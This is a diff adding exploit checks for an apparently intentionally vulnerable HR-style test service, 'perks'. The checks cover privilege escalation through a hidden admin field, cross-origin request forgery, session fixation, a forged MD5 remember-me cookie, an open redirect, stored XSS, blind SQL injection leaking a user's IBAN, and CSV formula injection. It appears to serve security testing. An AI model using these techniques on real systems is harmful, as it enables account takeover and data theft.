@@ -1,9 +1,12 @@
 """The exploits for the seventh set: one for each weakness, by service and name."""
 
 import base64
+import csv
 import hashlib
 import hmac
+import io
 import json
+import re
 
 import common
 from third_proofs import called, proof, sign_in
@@ -357,3 +360,136 @@ def _(client):
     page = client.get(f"/p/{number}")
     assert "<h1>picture</h1>" in page.text
     return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+# perks ------------------------------------------------------------------------------------------------------------------------------------
+
+
+def perks_entry(client, name, headers=None, **more):
+    """The answer of the sign-in; no cookie is kept."""
+    answer = client.post("/login", data={"username": name, "password": PASSWORD[name], **more}, headers=headers)
+    client.cookies.clear()
+    return answer
+
+
+def cookie_of(answer, name):
+    return next(line.partition(";")[0] for line in answer.headers.get_list("set-cookie") if line.startswith(name + "="))
+
+
+def perks_form(client, caller, path, fields, **more):
+    """The answer to a form with its token."""
+    token = re.search('name="csrfmiddlewaretoken" value="([^"]+)"', client.get("/account", headers=caller).text)[1]
+    client.cookies.clear()
+    answer = client.post(path, data=fields | {"csrfmiddlewaretoken": token}, headers=caller, **more)
+    client.cookies.clear()
+    return answer
+
+
+def work_number(client, caller):
+    return re.search(r"/employees/(\d+)/work-info", client.get("/home", headers=caller).text)[1]
+
+
+@sign_in("perks")
+def _(client, name):
+    return {"Cookie": cookie_of(perks_entry(client, name), "perks_session")}
+
+
+@proof("perks", "work-info-read")
+def _(client):
+    ann = client.as_("ann")
+    path = f"/employees/{work_number(client, ann)}/work-info"
+    assert "IBAN" in client.get(path, headers=ann).text
+    return "<dd>ann</dd>" in client.get(path, headers=client.as_("ben")).text
+
+
+@proof("perks", "account-admin")
+def _(client):
+    ann = client.as_("ann")
+    assert client.get("/admin/employees", headers=ann).status_code == 403
+    assert perks_form(client, ann, "/account", {"nickname": "Annie", "email": "a@north.example", "phone": "1", "admin": "on"}).status_code == 302
+    return client.get("/admin/employees", headers=ann).status_code == 200
+
+
+@proof("perks", "role-open")
+def _(client):
+    ann = client.as_("ann")
+    assert client.get("/admin/employees", headers=ann).status_code == 403
+    perks_form(client, ann, f"/admin/employees/{work_number(client, ann)}/role", {"role": "admin"})
+    return client.get("/admin/employees", headers=ann).status_code == 200
+
+
+@proof("perks", "time-off-forged")
+def _(client):
+    ann = client.as_("ann")
+    assert client.post("/plans", data={"plan": "meals"}, headers=ann | {"Origin": "https://elsewhere.example"}).status_code == 403
+    client.post("/time-off", data={"start": "2031-09-01", "days": "30", "reason": "forged"}, headers=ann | {"Origin": "https://elsewhere.example"})
+    return "forged" in client.get("/time-off", headers=ann).text and "samesite=none" in perks_entry(client, "ann").headers["set-cookie"].lower()
+
+
+@proof("perks", "session-kept")
+def _(client):
+    planted = {"Cookie": cookie_of(client.get("/login"), "perks_session")}
+    client.cookies.clear()
+    assert client.get("/home", headers=planted).status_code == 302
+    assert perks_entry(client, "ann", planted).status_code == 302
+    return "Good day, ann" in client.get("/home", headers=planted).text
+
+
+@proof("perks", "logout-cookie")
+def _(client):
+    ann = client.as_("ann")
+    answer = perks_form(client, ann, "/logout", {})
+    assert "perks_session=" in answer.headers["set-cookie"]
+    return "Good day, ann" in client.get("/home", headers=ann).text
+
+
+@proof("perks", "remember-made")
+def _(client):
+    remembered = cookie_of(perks_entry(client, "ben", remember="on"), "perks_remember")
+    assert "Good day, ben" in client.get("/home", headers={"Cookie": remembered}).text
+    client.cookies.clear()
+    made = base64.urlsafe_b64encode(f"olga:{hashlib.md5(b'olga').hexdigest()}".encode()).decode()
+    return client.get("/admin/employees", headers={"Cookie": f"perks_remember={made}"}).status_code == 200
+
+
+@proof("perks", "next-slashes")
+def _(client):
+    assert perks_entry(client, "ann", next="/time-off").headers["location"] == "/time-off"
+    assert perks_entry(client, "ann", next="https://elsewhere.example/").headers["location"] == "/home"
+    return perks_entry(client, "ann", next="//elsewhere.example/").headers["location"] == "//elsewhere.example/"
+
+
+@proof("perks", "message-markup")
+def _(client):
+    answer = perks_form(client, client.as_("ann"), "/messages", {"recipient": "ben", "subject": "picture", "body": MARKUP})
+    page = client.get(answer.headers["location"], headers=client.as_("ben"))
+    assert "<h1>picture</h1>" in page.text
+    return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+@proof("perks", "directory-order")
+def _(client):
+    ann = client.as_("ann")
+    assert client.get("/directory", params={"sort": "team"}, headers=ann).text != client.get("/directory", params={"sort": "name"}, headers=ann).text
+    question = "CASE WHEN (SELECT iban FROM people WHERE username = 'olga') LIKE '{}%' THEN name ELSE team END"
+    tables = [client.get("/directory", params={"sort": question.format(letters)}, headers=ann) for letters in ("DE", "FR")]
+    return {table.status_code for table in tables} == {200} and tables[0].text != tables[1].text
+
+
+@proof("perks", "upload-page")
+def _(client):
+    ann = client.as_("ann")
+    text = perks_form(client, ann, "/documents", {"title": "plain"}, files={"file": ("a.txt", b"plain", "text/plain")})
+    assert client.get(text.headers["location"], headers=ann).text == "plain"
+    answer = perks_form(client, ann, "/documents", {"title": "page"}, files={"file": ("a.html", b"<script>alert(1)</script>", "text/html")})
+    page = client.get(answer.headers.get("location", "/home"), headers=client.as_("olga"))
+    return page.headers["content-type"].startswith("text/html") and "<script>" in page.text and "attachment" not in page.headers.get("content-disposition", "")
+
+
+@proof("perks", "export-formula")
+def _(client):
+    reason = '=HYPERLINK("https://elsewhere.example","x")'
+    assert perks_form(client, client.as_("ann"), "/time-off", {"start": "2031-09-01", "days": "2", "reason": reason}).status_code == 302
+    rows = list(csv.reader(io.StringIO(client.get("/time-off/export.csv", headers=client.as_("olga")).text)))
+    assert any(row[3].endswith(reason) for row in rows)
+    return any(row[3] == reason for row in rows)
